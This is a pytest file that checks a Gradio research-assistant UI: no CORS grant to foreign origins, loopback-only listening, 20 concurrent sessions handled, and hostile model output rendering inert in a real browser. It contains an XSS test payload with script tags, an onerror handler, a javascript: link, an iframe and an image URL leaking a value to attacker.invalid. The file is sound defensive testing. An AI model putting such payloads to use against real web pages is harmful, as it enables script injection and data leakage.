"""Threats 2, 4 and 6 at the UI, for what tests/test_ui.py and tests/test_ui_browser.py do not
already probe:

* a foreign Origin gets no CORS grant from any route (CVE-2024-1561 class: cross-origin reads);
* the server listens on loopback only: the machine's other addresses refuse the port;
* hostile markup written by the MODEL (not the abstract) goes through the real Chatbot in a real
  browser: nothing executes, nothing loads from another host, no script link;
* 20 simultaneous UI sessions plus a TL;DR batch: every session answered, no error, one model
  call at a time.
"""

from __future__ import annotations

import concurrent.futures as cf
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from assistant.config import Settings
from assistant.protocols import Message
from assistant.service import Assistant
from assistant.sources import parse_file
from assistant.testing import FakeEmbedder, FakeLLM
from tests.test_ui import FAKE_FLOOR, grounded_responder
from vectorstore.chroma import ChromaStore

DATA = Path(__file__).parent / "data"
EVIL = "http://evil.example"
MODEL_PAYLOAD = (
    '<img src="http://attacker.invalid/pixel.png" onerror="window.__xss=11"> '
    "<script>window.__xss=12</script> ![](http://attacker.invalid/leak.png?q=secret) "
    "[read more](javascript:window.__xss=13) <iframe src=http://attacker.invalid/></iframe> "
)


class Running:
    def __init__(self, llm: FakeLLM, tmp_path: Path, **more: Any) -> None:
        from ui.app import start

        self.settings = Settings(
            data_dir=tmp_path, host="127.0.0.1", port=0, relevance_floor=FAKE_FLOOR, **more
        )
        store = ChromaStore(None, f"ui-{uuid.uuid4().hex[:12]}")
        self.assistant = Assistant(
            self.settings, write=True, llm=llm, embedder=FakeEmbedder(), store=store
        )
        self.assistant.library.ingest(parse_file(DATA / "ui_papers.jsonl").papers)
        self.running = start(self.assistant, self.settings, warm=False)
        self.url = self.running.url.rstrip("/")

    def client(self) -> Any:
        from gradio_client import Client

        return Client(self.url, verbose=False, analytics_enabled=False, download_files=False)

    def close(self) -> None:
        self.running.close()


@pytest.fixture()
def start_app(tmp_path: Path) -> Iterator[Callable[..., Running]]:
    started: list[Running] = []

    def make(llm: FakeLLM, **more: Any) -> Running:
        app = Running(llm, tmp_path / f"d{len(started)}", **more)
        started.append(app)
        return app

    yield make
    for app in started:
        app.close()


def test_foreign_origin_gets_no_cors_grant(start_app: Callable[..., Running]) -> None:
    import httpx

    app = start_app(FakeLLM(responder=grounded_responder))
    probes = [
        ("GET", "/"),
        ("GET", "/config"),
        ("GET", "/gradio_api/info"),
        ("GET", "/gradio_api/queue/status"),
        ("POST", "/gradio_api/call/ask"),
        ("POST", "/gradio_api/queue/join"),
        ("OPTIONS", "/gradio_api/call/ask"),
    ]
    with httpx.Client(timeout=20) as http:
        for method, path in probes:
            headers = {"Origin": EVIL, "Access-Control-Request-Method": "POST"}
            r = http.request(method, app.url + path, headers=headers, json={"data": ["hi"]})
            granted = r.headers.get("access-control-allow-origin", "")
            assert granted not in ("*", EVIL), (method, path, r.status_code, dict(r.headers))
            assert r.headers.get("access-control-allow-credentials", "").lower() != "true" or (
                granted != EVIL
            )


def _other_addresses() -> list[str]:
    found: set[str] = set()
    try:
        for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET):
            found.add(str(info[4][0]))
    except OSError:
        pass
    try:  # the address of the default route, without sending anything
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))
            found.add(s.getsockname()[0])
    except OSError:
        pass
    return sorted(a for a in found if not a.startswith("127."))


def test_server_listens_on_loopback_only(start_app: Callable[..., Running]) -> None:
    app = start_app(FakeLLM(responder=grounded_responder))
    port = int(app.url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        pass  # reachable on loopback
    others = _other_addresses()
    if not others:
        pytest.skip("this machine has no non-loopback IPv4 address to probe")
    for address in others:
        with pytest.raises(OSError), socket.create_connection((address, port), timeout=3):
            pass
    assert getattr(app.running.app, "share_url", None) in (None, "")


# ---- 20 sessions and a TL;DR batch through the real UI --------------------------------------


class _Tracking:
    def __init__(self, delay: float) -> None:
        self.delay, self.now, self.peak, self.calls = delay, 0, 0, 0
        self.lock = threading.Lock()

    def __call__(self, messages: list[Message]) -> str:
        with self.lock:
            self.now += 1
            self.calls += 1
            self.peak = max(self.peak, self.now)
        time.sleep(self.delay)
        with self.lock:
            self.now -= 1
        return grounded_responder(messages)


def test_twenty_sessions_and_a_tldr_batch(start_app: Callable[..., Running]) -> None:
    tracking = _Tracking(delay=0.05)
    app = start_app(FakeLLM(responder=tracking), queue_size=32)
    questions = [
        "How many parameters does Cappy have?",
        "How much does heuristic pre-training improve object detection on COCO?",
    ]
    clients = [app.client() for _ in range(21)]
    with cf.ThreadPoolExecutor(len(clients)) as pool:
        batch = pool.submit(clients[0].predict, api_name="/generate_tldrs")
        asks = [
            pool.submit(c.predict, questions[i % 2], api_name="/ask")
            for i, c in enumerate(clients[1:])
        ]
        answers = [f.result(timeout=300) for f in asks]
        message, table = batch.result(timeout=300)
    for i, (chat, _) in enumerate(answers):
        text = str(chat[-1]["content"])
        assert ("360 million" if i % 2 == 0 else "2.1 AP") in text, text
    assert "Wrote 3" in message and all(row[2] for row in table["data"])
    assert tracking.peak == 1, "model calls overlapped"


# ---- hostile model output in a real browser -------------------------------------------------


def hostile_responder(messages: list[Message]) -> str:
    return MODEL_PAYLOAD + grounded_responder(messages)


@pytest.mark.browser
@pytest.mark.integration
def test_hostile_model_output_renders_inert_in_a_real_browser(
    start_app: Callable[..., Running],
) -> None:
    from playwright.sync_api import sync_playwright

    from tests.test_ui_browser import CHROMIUM, CHROMIUM_ARGS, UI, Page, _require_chromium

    _require_chromium()
    app = start_app(FakeLLM(responder=hostile_responder))
    ui = UI(app.url, app.assistant, app.settings, 0.0)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        try:
            page = Page(browser, ui)
            page.page.goto(app.url)
            box = page.page.locator("#pa-question textarea")
            box.wait_for(state="visible", timeout=60_000)
            box.fill("How many parameters does Cappy have?")
            box.press("Enter")
            page.page.locator("#pa-chat .pa-card").first.wait_for(timeout=60_000)
            page.page.wait_for_timeout(500)  # give any injected handler the chance to fire
            page.assert_nothing_hostile()
            assert not [u for u in page.requests if "attacker.invalid" in u]
            chat = page.page.locator("#pa-chat").inner_text()
            assert "360 million" in chat
            assert page.page.evaluate("typeof window.__xss") == "undefined"
        finally:
            browser.close()
